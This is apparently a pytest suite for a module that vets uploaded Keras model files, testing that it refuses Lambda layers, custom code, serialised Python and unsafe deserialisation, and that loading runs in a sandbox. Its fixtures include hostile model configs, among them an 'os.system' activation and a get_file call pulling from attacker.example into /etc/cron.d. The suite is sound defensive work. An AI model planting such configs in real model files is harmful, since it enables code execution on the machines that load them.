"""Vetting uploaded Keras model files (wbc_ml.vetting).

The tiny models are built once per module in this process; every check that really loads a model
does so in a separate process that imports TensorFlow (several seconds each), so only the tests
marked "loads" below spawn one. All other refusals must happen before any process is started, which
the ``no_loader`` fixture enforces.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import tempfile
import time
import warnings
import zipfile
from pathlib import Path

import pytest

from tests.conftest import unavailable
from wbc_ml import vetting
from wbc_ml.checksums import file_sha256
from wbc_ml.vetting import (
    ModelRejected,
    ValidatedModel,
    detect_format,
    inspect_architecture,
    validate_model_file,
)

SIZE = 32


def _functional(keras, *, input_shape=(SIZE, SIZE, 3), n_classes=5, activation="softmax", middle=None):
    inputs = keras.Input(shape=input_shape)
    x = keras.layers.Conv2D(4, 3, activation="relu", name="conv")(inputs)
    if middle is not None:
        x = middle(x)
    x = keras.layers.GlobalAveragePooling2D(name="gap")(x)
    outputs = keras.layers.Dense(n_classes, activation=activation, bias_initializer="ones", name="head")(x)
    return keras.Model(inputs, outputs)


@pytest.fixture(scope="module")
def files(tmp_path_factory) -> dict[str, Path]:
    """Every model file the tests need, saved once."""
    os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "2")
    import keras

    @keras.saving.register_keras_serializable(package="Evil")
    class Doubler(keras.layers.Layer):
        def call(self, x):
            return x * 2

    keras.utils.set_random_seed(0)
    folder = tmp_path_factory.mktemp("uploads")
    paths = {}

    def save(name, model):
        paths[name] = folder / name
        model.save(paths[name])

    good = _functional(keras)
    save("good.keras", good)
    save("good.h5", good)  # Keras 3 writes legacy HDF5 with a model_config, as tf.keras 2 did
    paths["weights.weights.h5"] = folder / "weights.weights.h5"
    good.save_weights(paths["weights.weights.h5"])
    lam = _functional(keras, middle=keras.layers.Lambda(lambda t: t * 2, name="lambda_1"))
    save("lambda.keras", lam)
    save("lambda.h5", lam)
    save("gray.keras", _functional(keras, input_shape=(SIZE, SIZE, 1)))
    save("ten.keras", _functional(keras, n_classes=10))
    save("linear.keras", _functional(keras, activation="linear"))
    save("custom.keras", _functional(keras, middle=Doubler(name="doubler")))
    save("nested_compiled.keras", nested_compiled_model(keras))
    paths["nested_lambda_loss.keras"] = folder / "nested_lambda_loss.keras"
    replace_nested_loss(
        paths["nested_compiled.keras"],
        paths["nested_lambda_loss.keras"],
        serialised_lambda(keras),
    )
    return paths


def serialised_lambda(keras) -> dict:
    """A Python lambda as Keras writes it into a config (a "__lambda__" object with its bytecode)."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # Keras warns that such a file needs safe_mode=False
        return keras.saving.serialize_keras_object(lambda y, p: y - p)


def nested_compiled_model(keras):
    """A backbone that was compiled (as a loaded, pretrained model is) inside a new model: Keras stores its
    compile_config and deserialises it on load, even with compile=False."""
    inner_in = keras.Input((SIZE, SIZE, 3))
    x = keras.layers.Conv2D(4, 3, activation="relu", name="conv")(inner_in)
    inner = keras.Model(inner_in, keras.layers.GlobalAveragePooling2D(name="gap")(x), name="backbone")
    inner.compile(optimizer="adam", loss="categorical_crossentropy", metrics=["accuracy"])
    outer_in = keras.Input((SIZE, SIZE, 3))
    return keras.Model(outer_in, keras.layers.Dense(5, activation="softmax", name="head")(inner(outer_in)))


def replace_nested_loss(source: Path, target: Path, loss) -> None:
    """Copy a real .keras archive, with ``loss`` in the nested model's stored compile_config."""
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w") as out:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "config.json":
                config = json.loads(data)
                backbone = next(e for e in config["config"]["layers"] if e.get("name") == "backbone")
                backbone["compile_config"]["loss"] = loss
                data = json.dumps(config).encode()
            out.writestr(info, data)


@pytest.fixture
def no_loader(monkeypatch):
    """Fail if the check gets as far as starting a loader process."""

    def refuse(*args, **kwargs):
        raise AssertionError("the loader process should not have been started")

    monkeypatch.setattr(vetting, "_load_in_child", refuse)


def _loader_children() -> set[int]:
    """Pids of this process's children (zombies included), from /proc."""
    me = os.getpid()
    children = set()
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            status = (entry / "status").read_text()
        except OSError:
            continue
        for line in status.splitlines():
            if line.startswith("PPid:") and int(line.split()[1]) == me:
                children.add(int(entry.name))
    return children


# --- models that pass (each loads in a child process) -------------------------------------------------


def test_a_valid_keras_archive_passes(files):  # loads
    result = validate_model_file(files["good.keras"])
    assert isinstance(result, ValidatedModel)
    assert result.format == "keras"
    assert result.input_size == (SIZE, SIZE)
    assert result.n_outputs == 5
    assert result.parameters == 3 * 3 * 3 * 4 + 4 + 4 * 5 + 5
    assert len(result.probe_probabilities) == 5
    assert sum(result.probe_probabilities) == pytest.approx(1.0, abs=1e-3)
    assert all(0.0 <= p <= 1.0 for p in result.probe_probabilities)
    assert result.sha256 == file_sha256(files["good.keras"])
    assert len(result.sha256) == 64


def test_a_valid_legacy_h5_passes(files):  # loads
    result = validate_model_file(files["good.h5"])
    assert result.format == "h5"
    assert result.input_size == (SIZE, SIZE)
    assert result.n_outputs == 5
    assert sum(result.probe_probabilities) == pytest.approx(1.0, abs=1e-3)


# --- refused by the architecture inspection, before any loading --------------------------------------


def test_a_lambda_layer_in_a_keras_archive_is_refused(files, no_loader):
    with pytest.raises(ModelRejected, match=r"Layer 'lambda_1' is a Lambda layer: arbitrary code is not allowed"):
        validate_model_file(files["lambda.keras"])


def test_a_lambda_layer_in_an_h5_file_is_refused_by_the_child_before_keras_loads_it(files):
    """HDF5 is parsed only in the child (h5py is a large C parser); it inspects the architecture first."""
    with pytest.raises(ModelRejected, match=r"Layer 'lambda_1' is a Lambda layer: arbitrary code is not allowed"):
        validate_model_file(files["lambda.h5"])


def test_a_custom_registered_layer_is_refused_by_name(files, no_loader):
    with pytest.raises(ModelRejected) as caught:
        validate_model_file(files["custom.keras"])
    message = str(caught.value)
    assert "Layer 'doubler'" in message
    assert "Evil>Doubler" in message
    assert "custom code is not allowed" in message


def test_keras_safe_mode_in_the_loader_also_refuses_a_lambda(files):  # loads
    """Defence in depth: even if the inspection were bypassed, the loader runs with safe_mode=True."""
    with pytest.raises(ModelRejected, match=r"(?i)keras could not load the model.*lambda"):
        vetting._load_in_child(
            files["lambda.keras"],
            "keras",
            expected_classes=5,
            timeout_s=60,
            memory_limit_mb=4096,
            sleep_s=0,
            inspect=False,  # the child's own architecture walk would refuse it first
        )


def test_a_lambda_in_a_nested_models_compile_config_is_refused_before_loading(files, no_loader):
    """Keras deserialises a nested model's compile_config even with compile=False; only safe_mode stopped it."""
    with pytest.raises(ModelRejected) as caught:
        validate_model_file(files["nested_lambda_loss.keras"])
    assert str(caught.value) == (
        "Nested model 'backbone' (its saved compile settings) contains serialised Python code (a lambda): "
        "arbitrary code is not allowed."
    )


def test_a_nested_model_compiled_with_builtin_settings_is_accepted(files):
    with zipfile.ZipFile(files["nested_compiled.keras"]) as archive:
        config = json.loads(archive.read("config.json"))
    backbone = next(e for e in config["config"]["layers"] if e.get("name") == "backbone")
    assert backbone["compile_config"]["optimizer"]["class_name"] == "Adam"  # really there, and checked
    inspect_architecture(config)


def _keras3_config(*layers, **extra) -> dict:
    return {
        "module": "keras.src.models.functional",
        "class_name": "Functional",
        "registered_name": "Functional",
        "config": {"name": "functional", "layers": list(layers)},
        **extra,
    }


def _layer(class_name, name, module="keras.layers", registered_name=None, **config) -> dict:
    return {
        "module": module,
        "class_name": class_name,
        "registered_name": registered_name,
        "name": name,
        "config": {"name": name, **config},
    }


@pytest.mark.parametrize(
    ("config", "expected"),
    [
        pytest.param(
            # a Keras 2 / tf.keras HDF5 config: no "module" keys, TFOpLambda for raw TF ops
            {"class_name": "Model", "config": {"layers": [{"class_name": "TFOpLambda", "name": "tf.math.add"}]}},
            "Layer 'tf.math.add' is a TFOpLambda layer: arbitrary code is not allowed",
            id="tf-op-lambda",
        ),
        pytest.param(
            _keras3_config(
                _layer("InputLayer", "input"),
                _layer("Functional", "backbone", module="keras.src.models.functional", layers=[_layer("Lambda", "x")]),
            ),
            "Layer 'x' is a Lambda layer",
            id="lambda-in-a-nested-model",
        ),
        pytest.param(
            _keras3_config(_layer("TimeDistributed", "wrapped", layer=_layer("Dense", "d"))),
            "has class TimeDistributed, which is not one of the built-in Keras layers",
            id="not-on-the-allowlist",
        ),
        pytest.param(
            _keras3_config(_layer("Conv2D", "conv", module="evil.layers")),
            "from module 'evil.layers', which is not part of Keras",
            id="module-outside-keras",
        ),
        pytest.param(
            _keras3_config(
                _layer(
                    "Dense",
                    "head",
                    kernel_initializer={"module": "evil", "class_name": "Boom", "config": {}, "registered_name": None},
                )
            ),
            "Layer 'head' uses Boom from module 'evil'",
            id="custom-initializer",
        ),
        pytest.param(
            _keras3_config(
                _layer(
                    "Dense",
                    "head",
                    activation={"module": "os", "class_name": "function", "config": "system", "registered_name": None},
                )
            ),
            "Layer 'head' refers to the function 'os.system'",
            id="function-from-os",
        ),
        pytest.param(
            _keras3_config(
                _layer(
                    "Dense",
                    "head",
                    activation={
                        "module": "keras.src.saving.serialization_lib",
                        "class_name": "function",
                        "config": "enable_unsafe_deserialization",
                        "registered_name": "enable_unsafe_deserialization",
                    },
                )
            ),
            "is not a built-in Keras activation",
            id="keras-internal-function",
        ),
        pytest.param(
            _keras3_config(
                _layer(
                    "Dense",
                    "head",
                    kernel_initializer={
                        "module": "keras.utils",
                        "class_name": "get_file",
                        "config": {"origin": "http://attacker.example/x", "fname": "/etc/cron.d/x"},
                        "registered_name": None,
                    },
                )
            ),
            "Layer 'head' uses get_file from module 'keras.utils', which is not one of the built-in Keras objects",
            id="keras-utils-get-file",
        ),
        pytest.param(
            _keras3_config(
                _layer(
                    "Dense",
                    "head",
                    bias_initializer={
                        "module": "keras.config",
                        "class_name": "enable_unsafe_deserialization",
                        "config": {},
                        "registered_name": None,
                    },
                )
            ),
            "uses enable_unsafe_deserialization from module 'keras.config', which is not one of the built-in",
            id="keras-config-enable-unsafe-deserialization",
        ),
        pytest.param(
            _keras3_config(
                _layer(
                    "Dense",
                    "head",
                    activation={
                        "module": "keras.config",
                        "class_name": "function",
                        "config": "enable_unsafe_deserialization",
                        "registered_name": "enable_unsafe_deserialization",
                    },
                )
            ),
            "refers to the function 'keras.config.enable_unsafe_deserialization'",
            id="keras-config-function",
        ),
        pytest.param(
            _keras3_config(_layer("Conv2D", "conv", module="keras.src.saving.serialization_lib")),
            "uses Conv2D from module 'keras.src.saving.serialization_lib'",
            id="builtin-name-from-another-keras-module",
        ),
        pytest.param(
            _keras3_config(
                {
                    **_layer("Functional", "backbone", module="keras.src.models.functional", layers=[]),
                    "compile_config": {
                        "optimizer": {"module": "keras.utils", "class_name": "get_file", "config": {}},
                        "loss": "categorical_crossentropy",
                    },
                }
            ),
            "Nested model 'backbone' (its saved compile settings) uses get_file from module 'keras.utils'",
            id="get-file-in-a-nested-compile-config",
        ),
        pytest.param(
            _keras3_config(
                _layer(
                    "Dense",
                    "head",
                    activation={"class_name": "__lambda__", "config": {"code": "...", "defaults": None}},
                )
            ),
            "Layer 'head' contains serialised Python code (a lambda)",
            id="serialised-lambda-activation",
        ),
        pytest.param(
            _keras3_config(_layer("Dense", "head", registered_name="keras>Dense")),
            "uses the custom object 'keras>Dense'",
            id="registered-name",
        ),
        pytest.param(
            {"module": "my_models", "class_name": "MyNet", "registered_name": "Mine>MyNet", "config": {}},
            "custom object 'Mine>MyNet'",
            id="subclassed-model",
        ),
    ],
)
def test_the_architecture_inspection_refuses(config, expected):
    with pytest.raises(ModelRejected) as caught:
        inspect_architecture(config)
    assert expected in str(caught.value)


def test_the_architecture_inspection_accepts_builtin_activations_and_ignores_the_compile_config():
    activation = {"module": "keras.activations", "class_name": "function", "config": "relu", "registered_name": "relu"}
    custom_loss = {"module": "my_losses", "class_name": "FocalLoss", "registered_name": "Lab>FocalLoss"}
    config = _keras3_config(
        _layer("InputLayer", "input", batch_shape=[None, 32, 32, 3]),
        _layer("Conv2D", "conv", activation=activation, dtype={"module": "keras", "class_name": "DTypePolicy"}),
        compile_config={"loss": custom_loss},  # load_model(..., compile=False) never builds it
    )
    inspect_architecture(config)


# --- refused by the shape and probability checks in the loader ----------------------------------------


def test_a_grayscale_input_is_refused(files):  # loads
    with pytest.raises(ModelRejected, match=r"expects input \(None, 32, 32, 1\); need one H x W x 3 colour image"):
        validate_model_file(files["gray.keras"])


def test_a_ten_class_output_is_refused(files):  # loads
    with pytest.raises(
        ModelRejected, match=r"has 10 outputs per image; this platform needs 5 \(one per white-cell class\)"
    ):
        validate_model_file(files["ten.keras"])


def test_outputs_that_are_not_probabilities_are_refused(files):  # loads
    with pytest.raises(ModelRejected, match=r"outputs are not probabilities \(sum [^)]*\); it needs a softmax output"):
        validate_model_file(files["linear.keras"])


# --- refused by size and format, before any loading --------------------------------------------------


def test_a_renamed_text_file_is_refused(tmp_path, no_loader):
    fake = tmp_path / "model.keras"
    fake.write_text("these are not the weights you are looking for\n")
    with pytest.raises(ModelRejected, match=r"not a Keras model file \(\.keras archive or HDF5 \.h5\)"):
        validate_model_file(fake)


def test_a_zip_that_is_not_a_keras_archive_is_refused(tmp_path, no_loader):
    fake = tmp_path / "model.keras"
    with zipfile.ZipFile(fake, "w") as archive:
        archive.writestr("readme.txt", "hello")
        archive.writestr("config.json", json.dumps({"class_name": "Functional"}))  # but no metadata.json
    with pytest.raises(ModelRejected, match=r"not a Keras model file.*no config\.json and metadata\.json"):
        validate_model_file(fake)


def test_a_weights_only_h5_is_refused(files):
    with pytest.raises(ModelRejected, match=r"weights-only file, no model architecture"):
        validate_model_file(files["weights.weights.h5"])


def test_the_format_comes_from_the_content_not_the_name(files, tmp_path):
    disguised = tmp_path / "model.keras"
    disguised.write_bytes(files["good.h5"].read_bytes())
    assert detect_format(disguised) == "h5"
    disguised_zip = tmp_path / "model.h5"
    disguised_zip.write_bytes(files["good.keras"].read_bytes())
    assert detect_format(disguised_zip) == "keras"


def test_a_file_over_the_size_cap_is_refused(tmp_path, no_loader):
    big = tmp_path / "big.keras"
    big.write_bytes(b"\0" * (2 * 1024 * 1024 + 1))
    with pytest.raises(ModelRejected, match=r"over the 1 MB limit"):
        validate_model_file(big, max_bytes=1024 * 1024)


def test_an_empty_file_is_refused(tmp_path, no_loader):
    empty = tmp_path / "empty.h5"
    empty.write_bytes(b"")
    with pytest.raises(ModelRejected, match=r"The file is empty"):
        validate_model_file(empty)


# --- the loader process's limits ----------------------------------------------------------------------


def test_a_load_that_hangs_is_stopped_and_its_process_is_gone(files):
    if not Path("/proc/self/status").exists():
        unavailable("needs Linux /proc to list child processes")
    before = _loader_children()
    started = time.monotonic()
    with pytest.raises(ModelRejected, match=r"Loading the model took longer than 3 s"):
        validate_model_file(files["good.keras"], timeout_s=3, _child_sleep_s=120)
    assert time.monotonic() - started < 15
    assert _loader_children() - before == set()  # killed and reaped: not even a zombie is left


def test_a_loader_over_its_memory_cap_is_refused_clearly(files):  # loads (and fails fast)
    with pytest.raises(ModelRejected, match=r"(?i)300 MB of memory allowed"):
        validate_model_file(files["good.keras"], memory_limit_mb=300)


# --- the sandbox: HDF5, Keras and the ONNX export only ever run in the child ----------------------------

PROBE_SCRIPT = """
import json, sys
from pathlib import Path
from wbc_ml.vetting import validate_model_file
result = validate_model_file(Path(sys.argv[1]), onnx_path=Path(sys.argv[2]), normalization={"method": "scale01"})
heavy = ("h5py", "keras", "tensorflow", "onnxruntime", "tf2onnx")
print(json.dumps({"imported": [m for m in heavy if m in sys.modules], "onnx_sha256": result.onnx_sha256,
                  "onnx_status": result.onnx_status}))
"""


def test_the_calling_process_never_parses_hdf5_and_the_child_exports_the_onnx_copy(files, tmp_path):  # loads
    onnx = tmp_path / "out" / "model.onnx"
    done = subprocess.run(
        [sys.executable, "-c", PROBE_SCRIPT, str(files["good.h5"]), str(onnx)],
        cwd=vetting.REPO_ROOT,
        capture_output=True,
        text=True,
        timeout=180,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    report = json.loads(done.stdout.strip().splitlines()[-1])
    assert report["imported"] == []  # neither h5py nor TensorFlow/Keras nor ONNX Runtime in the caller
    assert report["onnx_status"].startswith("ONNX Runtime"), report["onnx_status"]
    assert onnx.is_file() and file_sha256(onnx) == report["onnx_sha256"]


@pytest.fixture
def listener():
    """A real TCP listener on 127.0.0.1 that the child must not be able to reach."""
    server = socket.create_server(("127.0.0.1", 0))
    yield server.getsockname()[1]
    server.close()


def test_the_child_gets_a_scrubbed_environment_a_private_home_and_resource_limits(monkeypatch, listener):
    monkeypatch.setenv("WBC_TEST_SECRET", "must-not-leak")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "must-not-leak-either")
    monkeypatch.setenv("DATABASE_URL", "postgres://user:password@db/wbc")
    report = vetting.describe_sandbox(connect_port=listener, memory_limit_mb=1500)
    assert set(report["env"]) <= vetting.CHILD_ENV_NAMES
    assert {"PATH", "HOME", "PYTHONPATH"} <= set(report["env"])
    assert "must-not-leak" not in json.dumps(report)
    assert report["env"]["HOME"] == report["cwd"]
    assert Path(report["cwd"]).parent == Path(tempfile.gettempdir()) and report["cwd_entries"] == []
    assert not Path(report["cwd"]).exists()  # removed afterwards
    assert report["rlimits"]["RLIMIT_DATA"] == 1500 * vetting.MIB
    assert report["rlimits"]["RLIMIT_CORE"] == 0
    assert 0 < report["rlimits"]["RLIMIT_NOFILE"] <= vetting.CHILD_MAX_OPEN_FILES
    assert 0 < report["rlimits"]["RLIMIT_FSIZE"] <= vetting.CHILD_MAX_WRITTEN_MB * vetting.MIB


def test_the_child_has_no_network_where_the_host_allows_it(listener):
    if vetting.network_isolation() is None:
        unavailable("unshare cannot make a network namespace on this host (documented in wbc_ml/vetting.py)")
    report = vetting.describe_sandbox(connect_port=listener)
    assert report["network"].startswith("unreachable"), report["network"]
    # the same probe without the namespace does reach the listener, so the check above can fail
    with socket.create_connection(("127.0.0.1", listener), timeout=5):
        pass
